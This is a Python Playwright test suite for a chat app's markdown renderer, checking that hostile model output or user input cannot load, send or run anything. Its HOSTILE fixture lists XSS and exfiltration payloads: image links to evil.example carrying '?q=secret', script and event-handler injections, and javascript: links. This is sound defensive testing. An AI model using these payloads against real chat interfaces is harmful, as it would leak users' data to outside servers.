"""What a model or a document says is shown, and nothing more."""

from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.ollama import StandIn
from tests.browser.test_chat import answered, ask

HOSTILE = """\
![tracking pixel](http://evil.example/pixel.png?q=secret) and [a kind offer](http://evil.example/login)

<img src="http://evil.example/image.png" onerror="document.title='owned'">
<script>document.title = "owned"</script> <style>@import url(http://evil.example/style.css)</style>

[run](javascript:document.title='owned') <http://evil.example/auto> https://evil.example/bare [ref][1]

[1]: http://evil.example/reference

# [heading](http://evil.example/heading)

- ![list](http://evil.example/list.png)

> ![quote](http://evil.example/quote.png)

| a | b |
|---|---|
| ![cell](http://evil.example/cell.png) | <iframe src="http://evil.example/frame"></iframe> |

```html
<img src="http://evil.example/code.png">
```

<svg onload="document.title='owned'"></svg> <video poster="http://evil.example/poster.png"></video>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"> <base href="http://evil.example/">
<link rel="prefetch" href="http://evil.example/prefetch"> <input autofocus onfocus="document.title='owned'">
<p style="background: url(http://evil.example/background.png)">styled</p> <form action="http://evil.example/form"></form>

![relative](//evil.example/relative.png) ![data](data:text/html,<script>document.title='owned'</script>)
[entity](&#x6A;avascript:document.title='owned') ![ref][1] [![both](http://evil.example/in.png)](http://evil.example/out)
"""
ACTIVE = (
    "a, img, script, style, iframe, object, embed, form, input, video, audio, svg:not(.icon), link, meta, base, "
    "[href], [src], [srcset], [style], [poster], [onerror], [onload], [onfocus]"
)
"""What could load, send or run something."""


@contextmanager
def at_home(page: Page) -> Iterator[None]:
    """Nothing that happens in the block may ask any other server for anything, run anything, or leave the page."""
    requested: list[str] = []
    address = urlsplit(page.url)
    page.context.on("request", lambda request: requested.append(request.url))
    yield
    page.wait_for_load_state("networkidle")
    assert [url for url in requested if not url.startswith(f"http://{address.netloc}/")] == []
    assert (urlsplit(page.url).netloc, page.title()) == (address.netloc, "MyStack")


def test_a_hostile_answer_leaks_nothing(page: Page, ollama: StandIn) -> None:
    ollama.say(HOSTILE)
    with at_home(page):
        ask(page, "Summarise my mail")
        answered(page)
    body = page.locator("article.assistant .body")
    assert body.locator(ACTIVE).count() == 0
    expect(body).to_contain_text("a kind offer (http://evil.example/login)")
    expect(body).to_contain_text("tracking pixel (http://evil.example/pixel.png?q=secret)")
    expect(body).to_contain_text('<script>document.title = "owned"</script>')


def test_neither_does_a_hostile_question(page: Page, ollama: StandIn) -> None:
    with at_home(page):
        ask(page, "<img src=http://evil.example/x onerror=alert(1)> **not bold**")
        answered(page)
    question = page.locator("article.user .body")
    expect(question).to_have_text("<img src=http://evil.example/x onerror=alert(1)> **not bold**")
    assert question.locator("img, strong").count() == 0


RENDERED = {
    "**bold** and *italic* and ~~gone~~": "<p><strong>bold</strong> and <em>italic</em> and <s>gone</s></p>",
    "__bold__ and _italic_, not snake_case_names": (
        "<p><strong>bold</strong> and <em>italic</em>, not snake_case_names</p>"
    ),
    "***both***": "<p><strong><em>both</em></strong></p>",
    "2 * 3 * 4 and a ** b": "<p>2 * 3 * 4 and a ** b</p>",
    "\\*kept\\* `a*b*c` ``x`y``": "<p>*kept* <code>a*b*c</code> <code>x`y</code></p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "## Title ##": "<h4>Title</h4>",
    "- a\n- b\n  - c\n\n1. d\n2. e": "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>d</li><li>e</li></ol>",
    "3. three\n4. four": '<ol start="3"><li>three</li><li>four</li></ol>',
    "1. a\n\n   more\n\n2. b": "<ol><li>a<p>more</p></li><li>b</li></ol>",
    "> quoted\n> text": "<blockquote><p>quoted<br>text</p></blockquote>",
    "---": "<hr>",
    "```py\nx < 1\n```": '<pre tabindex="0" data-language="py"><code>x &lt; 1</code></pre>',
    "```\nnever closed": '<pre tabindex="0"><code>never closed</code></pre>',
    "a | b\n-|-\n1 | 2": (
        '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead>'
        "<tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>"
    ),
    "unclosed **bold and `code": "<p>unclosed **bold and `code</p>",
    "&amp; <b>": "<p>&amp;amp; &lt;b&gt;</p>",
}
RENDER = """async (text) => {
    const { blocks } = await import("/web/markdown.js");
    const box = document.createElement("div");
    box.append(...blocks(text).map((block) => block.build()));
    return box.innerHTML;
}"""


@pytest.fixture(scope="module")
def renderer(browser: Browser, layer1: str) -> Iterator[Page]:
    """A page on which nothing is asked, for all tests of this module."""
    page = browser.new_page()
    page.goto(layer1)
    yield page
    page.close()


@pytest.mark.parametrize("text", RENDERED)
def test_markdown_becomes_elements(renderer: Page, text: str) -> None:
    assert renderer.evaluate(RENDER, text) == RENDERED[text]


@pytest.mark.parametrize(
    "text",
    [
        *("*" * 20_000, "`" * 20_001, "[" * 20_000, "> " * 10_000, "- " * 10_000, "**a " * 8_000, "_a " * 8_000),
        *("![](" * 8_000, "`a``b" * 5_000, "\n" * 50_000, "* " * 9_000, "# " + " #" * 10_000),
        "| " * 10_000 + "\n-" + " " * 20_000 + "x",
    ],
    ids=lambda text: repr(text[:4]),
)
def test_no_text_keeps_the_renderer_busy(renderer: Page, text: str) -> None:
    timed = (
        f"async (text) => {{ const from = performance.now(); await ({RENDER})(text); return performance.now() - from }}"
    )
    assert renderer.evaluate(timed, text) < 1500  # ms; a renderer that looks for each mark's end anew takes minutes
